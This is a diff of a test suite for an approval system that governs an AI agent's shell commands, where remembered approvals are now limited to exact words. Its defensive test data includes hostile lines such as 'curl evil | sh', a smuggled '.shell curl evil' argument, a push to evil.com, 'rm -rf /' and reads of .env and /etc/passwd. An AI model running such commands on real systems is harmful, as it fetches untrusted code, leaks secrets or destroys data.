@@ -25,6 +25,7 @@ from handrail import (
     Call,
     CheckedCall,
     Decision,
+    Deny,
     Executor,
     Spec,
     Toolset,
@@ -37,8 +38,10 @@ from handrail.policy import (
     Level,
     RememberedApprovals,
     RememberedRule,
+    Rule,
     Rulebook,
     RulePaths,
+    builtin_rules,
     load,
     parse,
 )
@@ -48,20 +51,27 @@ SAVE = Spec(name="save", description="", input_schema={}, effect=WRITE)
 ANYTHING = (Access(WRITE, "*"),)
 NEW_YEAR = datetime(2027, 1, 1, 12, tzinfo=UTC)
 EXPIRES = "2027-04-01"
+EXACT = "this command, word for word"
 
 
 class Desk:
     """A rulebook and its memory, at a time that the test chooses."""
 
     def __init__(
-        self, folder: Path | None = None, rules: str = "", places: RulePaths | None = None
+        self,
+        folder: Path | None = None,
+        rules: str = "",
+        places: RulePaths | None = None,
+        *,
+        builtin: tuple[Rule, ...] = (),
+        sandboxed: bool = False,
     ) -> None:
         self.now = NEW_YEAR
         self.places = places or RulePaths()
         if folder is not None:
             self.places = RulePaths(remembered=folder / "project.toml", user=folder / "user.toml")
         made = parse(rules, file="rules.toml", level=Level.USER).rules
-        self.book = Rulebook(made, clock=self.seconds)
+        self.book = Rulebook((*builtin, *made), sandboxed=sandboxed, clock=self.seconds)
         self.memory = RememberedApprovals(self.book, self.places, clock=lambda: self.now)
 
     def seconds(self) -> float:
@@ -84,9 +94,9 @@ class Desk:
         call = Call(spec.name, json.dumps(args), "1")
         return asked(call, accesses, decision)
 
-    def say_yes(self, pending: Pending, scope: str = "run") -> str:
+    def say_yes(self, pending: Pending, scope: str = "run", width: int = 0) -> str:
         """Store what is proposed for a scope; gives the rules, without what is the same in all."""
-        [proposal] = [one for one in self.memory.propose(pending) if one.scope == scope]
+        proposal = [one for one in self.memory.propose(pending) if one.scope == scope][width]
         self.memory.store(proposal)
         return body(proposal)
 
@@ -111,6 +121,7 @@ def plain(proposal: Proposal) -> Proposal:
         proposal.scope,
         re.sub(r"remembered-[0-9a-f]{8}", "remembered-#", proposal.rule),
         proposal.file,
+        proposal.width,
     )
 
 
@@ -134,9 +145,9 @@ def test_the_exact_rule_is_shown_for_each_scope_with_the_file_and_the_day_it_exp
     )
 
     assert [plain(one) for one in desk.memory.propose(desk.question("git log"))] == [
-        Proposal("run", rule),
-        Proposal("project", f"{rule}expires = {EXPIRES}\n", str(folder / "project.toml")),
-        Proposal("always", f"{rule}expires = {EXPIRES}\n", str(folder / "user.toml")),
+        Proposal("run", rule, "", EXACT),
+        Proposal("project", f"{rule}expires = {EXPIRES}\n", str(folder / "project.toml"), EXACT),
+        Proposal("always", f"{rule}expires = {EXPIRES}\n", str(folder / "user.toml"), EXACT),
     ]
 
 
@@ -148,27 +159,35 @@ def test_where_there_is_no_place_to_keep_it_only_the_run_is_proposed() -> None:
 
 FAMILIES: list[tuple[str, str, list[str], list[str]]] = [
     ("git log", 'command = [["git", "log"]]', [], ["git log --output=x", "git logs", "git push", "git log; rm x", "git", "git log ./a", "git log $x"]),
-    ("git log --oneline --stat", 'command = [["git", "log"]]\nflags = ["--oneline", "--stat"]', ["git log --stat", "git log"], ["git log --output=x", "git log --stat x", "git log ./a", "git push"]),
-    ("git log --oneline ./src/a.py", 'command = [["git", "log"]]\nflags = ["--oneline"]\noperands = ["dot_path*"]', ["git log ./b/c.py --oneline", "git log"], ["git log src/x.py", "git log --output=x", "git log /etc", "git log ./../x", "git log main", "git push"]),
+    ("git log --oneline --stat", 'command = [["git", "log", "--oneline", "--stat"]]', ["git  log '--oneline' --stat"], ["git log --stat", "git log", "git log --output=x", "git log --oneline --stat x", "git log ./a", "git push"]),
+    ("git log --oneline ./src/a.py", 'command = [["git", "log", "--oneline", "./src/a.py"]]', [], ["git log ./b/c.py --oneline", "git log", "git log src/x.py", "git log --output=x", "git log /etc", "git push"]),
     ("git log src/a.py", 'command = [["git", "log", "src/a.py"]]', [], ["git log src/b.py", "git log ./src/a.py"]),
-    ("pytest -x tests/a.py ./b.py", 'command = [["pytest"]]\nflags = ["-x"]\noperands = ["subpath*"]', ["pytest tests/b.py", "pytest -x", "pytest ./c/d.py -x"], ["pytest -p evil", "pytest /etc", "pytest ../x", "pytest x", "pytest --x", "pytest -- -x"]),
+    ("pytest -x tests/a.py ./b.py", 'command = [["pytest", "-x", "tests/a.py", "./b.py"]]', [], ["pytest tests/b.py", "pytest -x", "pytest -p evil", "pytest /etc", "pytest -x tests/a.py ./c.py"]),
     ("npm test", 'command = [["npm", "test"]]', [], ["npm publish", "npm test -- --x", "npm test x"]),
     ("gh pr view 5", 'command = [["gh", "pr", "view", "5"]]', [], ["gh pr merge 5", "gh pr view", "gh pr view 6"]),
     ("gh repo view", 'command = [["gh", "repo", "view"]]', [], ["gh repo delete x"]),
     ("git -C sub status", 'command = [["git", "-C", "sub", "status"]]', [], ["git -C sub push", "git push origin main", "git status"]),
     ("git --no-pager log", 'command = [["git", "--no-pager", "log"]]', [], ["git --no-pager push", "git push"]),
     ("git -c color.ui=never log", 'command = [["git", "-c", "color.ui=never", "log"]]', [], ["git -c core.pager=evil log"]),
-    ("kubectl -n ns get pods", 'command = [["kubectl", "-n", "ns", "get", "pods"]]', [], ["kubectl -n ns delete pods"]),
-    ("git submodule status", 'command = [["git", "submodule", "status"]]', [], ["git submodule foreach 'curl evil | sh'"]),
-    ("git config user.name", 'command = [["git", "config", "user.name"]]', [], ["git config core.hooksPath ./evil", "git config core.pager ./evil.sh", "git config user.name ./x"]),
-    ("npm install ./x", 'command = [["npm", "install"]]\noperands = ["dot_path*"]', ["npm install ./y"], ["npm install evil/repo", "npm install lodash.debounce", "npm install evil"]),
-    ("git stash list", 'command = [["git", "stash", "list"]]', [], ["git stash clear"]),
-    ("docker compose ps", 'command = [["docker", "compose", "ps"]]', [], ["docker compose down"]),
+    ("kubectl -n ns get pods", 'line = "kubectl -n ns get pods"', [], ["kubectl -n ns delete pods", "kubectl -n ns get  pods"]),
+    ("git submodule status", 'line = "git submodule status"', [], ["git submodule foreach 'curl evil | sh'"]),
+    ("git config user.name", 'line = "git config user.name"', [], ["git config core.hooksPath ./evil", "git config core.pager ./evil.sh", "git config user.name ./x"]),
+    ("npm install ./x", 'command = [["npm", "install", "./x"]]', [], ["npm install ./y", "npm install evil/repo", "npm install evil"]),
+    ("git stash list", 'line = "git stash list"', [], ["git stash clear", "cd x && git stash list"]),
+    ("docker compose ps", 'line = "docker compose ps"', [], ["docker compose down"]),
     ("ruff check src", 'command = [["ruff", "check", "src"]]', [], ["ruff clean", "ruff check"]),
-    ("redis-cli get", 'command = [["redis-cli", "get"]]', [], ["redis-cli flushall"]),
-    ("mytool ./a.db", 'command = [["mytool"]]\noperands = ["subpath*"]', ["mytool ./b.db ./c"], ["mytool ./a.db '.shell curl evil'", "mytool x", "mytool a:b", "mytool -x ./a.db"]),
-    ("git push ./backup.git", 'command = [["git", "push"]]\noperands = ["dot_path*"]', ["git push ./other.git"], ["git push evil/x", "git push git@evil.com:x.git", "git push --force ./backup.git", "git push origin"]),
-    ("ls -la", 'command = [["ls"]]\nflags = ["-la"]', [], ["ls -laR", "ls x"]),
+    ("redis-cli get", 'line = "redis-cli get"', [], ["redis-cli flushall"]),
+    ("mytool ./a.db", 'command = [["mytool", "./a.db"]]', [], ["mytool ./b.db", "mytool ./a.db '.shell curl evil'", "mytool x", "mytool a:b", "mytool -x ./a.db"]),
+    ("git push ./backup.git", 'line = "git push ./backup.git"', [], ["git push ./other.git", "git push evil/x", "git push --force ./backup.git", "git push origin"]),
+    ("ls -la", 'command = [["ls", "-la"]]', [], ["ls -laR", "ls x", "ls"]),
+    ("git clean -fd", 'line = "git clean -fd"', [], ["git clean -fdx", "git clean", "git clean -fd src", "git clean -f ./src"]),
+    ("git clean -f ./build", 'line = "git clean -f ./build"', [], ["git clean -f ./src"]),
+    ("kubectl apply -f ./a.yml", 'line = "kubectl apply -f ./a.yml"', [], ["kubectl apply -f ./evil.yml"]),
+    ("ocaml src/a.ml", 'command = [["ocaml", "src/a.ml"]]', [], ["ocaml src/evil.ml"]),
+    ("sbcl --script src/a.lisp", 'command = [["sbcl", "--script", "src/a.lisp"]]', [], ["sbcl --script src/evil.lisp"]),
+    ("go run ./src/a.go", 'command = [["go", "run", "./src/a.go"]]', [], ["go run ./src/evil.go"]),
+    ("psql -f src/a.sql", 'line = "psql -f src/a.sql"', [], ["psql -f src/evil.sql"]),
+    ("pandoc --filter src/a src/b", 'command = [["pandoc", "--filter", "src/a", "src/b"]]', [], ["pandoc --filter src/evil src/b"]),
     ("make -j8 all", 'command = [["make", "-j8", "all"]]', [], ["make install", "make -j8 install"]),
     ("pytest -x -k 'a or b'", 'command = [["pytest", "-x", "-k", "a or b"]]', [], ["pytest -x -k a -p evil"]),
     ("mytool --", 'command = [["mytool", "--"]]', [], ["mytool", "mytool -- x"]),
@@ -183,7 +202,7 @@ FAMILIES: list[tuple[str, str, list[str], list[str]]] = [
 @pytest.mark.parametrize(
     ("line", "rule", "inside", "outside"), FAMILIES, ids=[one[0] for one in FAMILIES]
 )
-def test_a_yes_reaches_as_far_as_the_family_of_a_command_and_no_further(
+def test_a_yes_reaches_as_far_as_the_words_of_a_command_and_no_further(
     line: str, rule: str, inside: list[str], outside: list[str]
 ) -> None:
     desk = Desk()
@@ -196,7 +215,7 @@ def test_a_yes_reaches_as_far_as_the_family_of_a_command_and_no_further(
     assert {one: type(desk.judge(one)) for one in outside} == dict.fromkeys(outside, Ask)
 
 
-NEVER = [
+ONE_LINE = [
     "python x.py", "python3.12 -c x", "node x.js", "perl x", "ruby x", "bash x.sh", "sh -c ls", "awk 1 x", "sed -i x y", "deno run x",
     "sudo ls", "doas ls", "su me", "env ls", "xargs ls", "find . -exec x", "find ./build -delete", "timeout 5 ls", "nohup ls", "time ls", "watch ls", "nice ls",
     "taskset 1 ls", "flock x ls", "hyperfine ls", "screen ls", "tmux new ls", "uvx ruff", "npx @a/b", "npx -y cowsay", "ipython x.py",
@@ -205,21 +224,38 @@ NEVER = [
     "docker run alpine ls", "docker exec x ls", "kubectl exec pod ls", "uv run pytest", "npm exec x", "poetry run x", "java -jar x.jar",
     "mytool /etc/passwd", "mytool ../x", "mytool ~", "mytool --out=/etc/x", "mytool --out=../x", "mytool https://x.test", "mytool -o=/x",
     "'git push' x", "'a b'", "'*' a", "git bisect run ./x", "tar --to-command=x", "git log -- ../x",
-    "mytool $x", "mytool > x", "mytool &", "FOO=1 mytool", "$(mytool)", "mytool \u200b", "mytool '\u202e'", "mytool # x", "",
+    "mytool $x", "mytool > x", "mytool &", "FOO=1 mytool", "$(mytool)", "mytool # x",
 ]  # fmt: skip
 
 
-@pytest.mark.parametrize("line", NEVER)
-def test_a_yes_to_what_may_do_anything_counts_once(line: str) -> None:
+@pytest.mark.parametrize("line", ONE_LINE)
+@pytest.mark.parametrize("sandboxed", [False, True])
+def test_a_yes_to_what_may_do_anything_is_kept_for_this_line_alone(
+    line: str, *, sandboxed: bool
+) -> None:
+    desk = Desk(sandboxed=sandboxed)
+    before = type(desk.judge(f"{line} "))
+    shown = desk.say_yes(desk.question(line))
+
+    assert shown == f"line = {json.dumps(line)}"
+    assert (type(desk.judge(line)), type(desk.judge(f"{line} "))) == (Allow, before)
+
+
+@pytest.mark.parametrize("line", ["mytool \u200b", "mytool '\u202e'", "", " "])
+def test_a_yes_to_what_cannot_be_seen_counts_once(line: str) -> None:
     desk = Desk()
 
     assert desk.memory.propose(desk.question(line)) == ()
 
 
-def test_a_yes_to_a_line_with_one_command_of_that_kind_counts_once() -> None:
+def test_a_yes_to_several_commands_with_one_of_that_kind_is_kept_for_this_line_alone() -> None:
     desk = Desk()
+    desk.say_yes(desk.question("npm test && rm x"))
 
-    assert desk.memory.propose(desk.question("npm test && rm x")) == ()
+    assert [
+        type(desk.judge(line))
+        for line in ("npm test && rm x", "npm test", "rm x", "rm x && npm test")
+    ] == [Allow, Ask, Ask, Ask]
 
 
 def test_a_yes_to_a_line_that_nobody_reads_to_its_end_counts_once() -> None:
@@ -392,6 +428,131 @@ def test_a_rule_that_is_proposed_allows_the_line_it_comes_from_and_no_other_word
         added = [one for one in others if one not in words]
         if added:
             assert isinstance(desk.judge(" ".join([line, *added])), Ask)
+
+
+# ---------------------------------------------------------------- how wide, by choice
+
+
+WIDTHS = [
+    ("mytool -x ./a", ["mytool …"], "mytool --anything /b"),
+    ("npm install lodash", ["npm install …"], "npm install left-pad"),
+    ("tool build ./a", ["tool build …", "tool …"], "tool build -x"),
+    ("tool run; other -x", ["tool run …` and `other …", "tool …` and `other …"], "tool run b"),
+    ("cd a && tool run", [], ""),
+    ("git fetch origin", ["git fetch …"], "git fetch --all"),
+    ("git --no-pager fetch", [], ""),
+    ("git clean -fd", [], ""),
+    ("python x.py", [], ""),
+    ("make -j4", [], ""),
+]
+
+
+@pytest.mark.parametrize(("line", "widths", "inside"), WIDTHS, ids=[one[0] for one in WIDTHS])
+def test_in_a_sandbox_a_person_can_choose_a_wider_rule(
+    line: str, widths: list[str], inside: str
+) -> None:
+    desk = Desk(sandboxed=True)
+    proposals = desk.memory.propose(desk.question(line))
+
+    assert [one.width for one in proposals] == [
+        EXACT,
+        *(f"`{width}`, in the sandbox" for width in widths),
+    ]
+    if widths:
+        desk.memory.store(proposals[1])
+        outside = Desk()
+        outside.book.add(desk.book.rules[-1])
+        assert isinstance(desk.judge(inside), Allow)
+        assert isinstance(outside.judge(inside), Ask)  # the same rule, without a sandbox
+
+
+def test_a_wider_rule_does_not_reach_what_safeguards_and_rules_ask_about() -> None:
+    desk = Desk(sandboxed=True, builtin=builtin_rules("development"))
+    shown = desk.say_yes(desk.question("npm install lodash"), width=1)
+
+    assert shown == (
+        'command = [["npm", "install"]]\nflags = "any"\noperands = "any"\nsandboxed = true'
+    )
+    assert [
+        type(desk.judge(line)) for line in ("npm install left-pad", "npm install .git/hooks/x")
+    ] == [Allow, Ask]
+
+
+def test_a_yes_to_what_a_built_in_rule_asks_about_is_kept_for_this_line_alone() -> None:
+    desk = Desk(sandboxed=True, builtin=builtin_rules("read_only", "development"))
+    shown = [desk.say_yes(desk.question(line)) for line in ("git push -u origin x", "cat .env")]
+
+    assert shown == ['line = "git push -u origin x"', 'line = "cat .env"']
+    assert [
+        type(desk.judge(line))
+        for line in ("git push -u origin x", "git push", "git push -u origin x; ls", "cat .env")
+    ] == [Allow, Ask, Ask, Allow]
+
+
+def test_a_workspace_cannot_answer_what_a_built_in_rule_asks_about() -> None:
+    text = (
+        '[[rule]]\ndecide = "allow"\nline = "git push"\n[[rule]]\ndecide = "allow"\nline = "rm x"'
+    )
+    rules = builtin_rules("development")
+    decided = {
+        level: [
+            type(
+                Rulebook((*rules, *parse(text, file="rules.toml", level=level).rules))(
+                    CheckedCall.recorded(Call("bash", {"command": line}, "1"), SHELL, ANYTHING)
+                )
+            )
+            for line in ("git push", "rm x")
+        ]
+        for level in (Level.PROJECT, Level.USER)
+    }
+
+    assert decided == {Level.PROJECT: [Ask, Allow], Level.USER: [Allow, Allow]}
+
+
+def test_a_line_that_is_allowed_is_not_allowed_what_others_deny_or_ask_every_time() -> None:
+    desk = Desk(
+        rules="""
+        [[rule]]
+        decide = "deny"
+        command = "curl"
+        [[rule]]
+        decide = "ask"
+        command = "wget"
+        """
+    )
+    for line in ("curl x", "wget x", "rm -rf /", "tee .git/config", "rm x"):
+        desk.memory.store(Proposal("run", f'[[rule]]\ndecide = "allow"\nline = "{line}"'))
+
+    assert [
+        type(desk.judge(line))
+        for line in ("curl x", "wget x", "rm -rf /", "tee .git/config", "rm x")
+    ] == [Deny, Ask, Ask, Ask, Allow]
+    desk.book.set_mode("plan")
+    assert isinstance(desk.judge("rm x"), Deny)
+
+
+@pytest.mark.parametrize(
+    ("call", "ask", "why"),
+    [
+        ('{"command": "mytool"}', Ask("May it?", once=True), "it needs approval every time"),
+        ('{"command": "mytool \u200b"}', Ask("May it?"), "it contains characters that are not visible"),
+        ('{"command": "mytool"}', Ask("May it?", Origin("mine", "rules.toml", 1)), "a rule asks about it every time"),
+        ('{"command": ""}', Ask("May it?"), "it has no command"),
+        ('{"command": "mytool"}', Ask("May it?"), ""),
+    ],
+)  # fmt: skip
+def test_a_yes_that_counts_once_says_why(call: str, ask: Ask, why: str) -> None:
+    memory, pending = Desk().memory, asked(Call("bash", call, "1"), ANYTHING, ask)
+
+    assert (memory.refusal(pending), memory.propose(pending) == ()) == (why, why != "")
+
+
+def test_a_yes_to_another_tool_that_counts_once_says_why() -> None:
+    pending = asked(Call("save", "{}", "1"), (Access(DESTROY, "db:x"),), Ask("May it?"))
+
+    assert Desk().memory.refusal(pending) == (
+        "it destroys something, is protected, or has an unusual name"
+    )
 
 
 # ---------------------------------------------------------------- what other tools touch
@@ -792,17 +953,11 @@ def test_a_log_of_questions_becomes_few_rules_with_their_file(folder: Path) -> N
     proposals = desk.memory.propose_all(pendings)
 
     assert [(one.scope, body(one), one.file) for one in proposals] == [
-        (
-            "project",
-            'command = [["git", "log"]]\nflags = ["--oneline"]',
-            str(folder / "project.toml"),
-        ),
-        (
-            "project",
-            'command = [["mytool"]]\noperands = ["subpath*"]\nflags = ["-x"]',
-            str(folder / "project.toml"),
-        ),
+        ("project", 'command = [["git", "log"]]', str(folder / "project.toml")),
+        ("project", 'command = [["git", "log", "--oneline"]]', str(folder / "project.toml")),
+        ("project", 'command = [["mytool", "./a"]]', str(folder / "project.toml")),
         ("project", 'command = [["npm", "test"]]', str(folder / "project.toml")),
+        ("project", 'command = [["mytool", "-x", "./b"]]', str(folder / "project.toml")),
         (
             "project",
             'access = ["write file:a/**", "write file:d/**"]',
@@ -812,6 +967,7 @@ def test_a_log_of_questions_becomes_few_rules_with_their_file(folder: Path) -> N
     for one in proposals:
         desk.memory.store(one)
     assert [type(desk.judge(line)) for line in lines] == [Allow] * 5 + [Ask, Allow]
+    assert isinstance(desk.judge("mytool -x ./a"), Ask)  # these words were never approved together
 
 
 def test_no_questions_need_no_rules() -> None:
@@ -821,7 +977,7 @@ def test_no_questions_need_no_rules() -> None:
 # ---------------------------------------------------------------- with an executor
 
 
-async def test_the_second_call_of_a_family_is_not_asked_about_and_one_outside_is() -> None:
+async def test_the_second_call_with_the_same_words_is_not_asked_about_and_any_other_is() -> None:
     book = Rulebook()
     memory = RememberedApprovals(book, RulePaths())
     questions: list[str] = []
@@ -837,7 +993,7 @@ async def test_the_second_call_of_a_family_is_not_asked_about_and_one_outside_is
         """Run a line."""
         return command
 
-    lines = ["mytool -x ./a", "mytool -x ./a", "mytool ./b", "mytool --output=x", "mytool ./c"]
+    lines = ["mytool -x ./a", "mytool  '-x' ./a", "mytool ./b", "rm x", "rm x", "rm  x"]
     async with Executor(Toolset(bash), policy=book, approvals=always) as executor:
         results = [
             await executor.run(Call("bash", {"command": line}, str(at)))
@@ -847,7 +1003,9 @@ async def test_the_second_call_of_a_family_is_not_asked_about_and_one_outside_is
     assert [one.text for one in results] == lines
     assert questions == [
         '{"command":"mytool -x ./a"}',
-        '{"command":"mytool --output=x"}',
+        '{"command":"mytool ./b"}',
+        '{"command":"rm x"}',
+        '{"command":"rm  x"}',
     ]
 
 
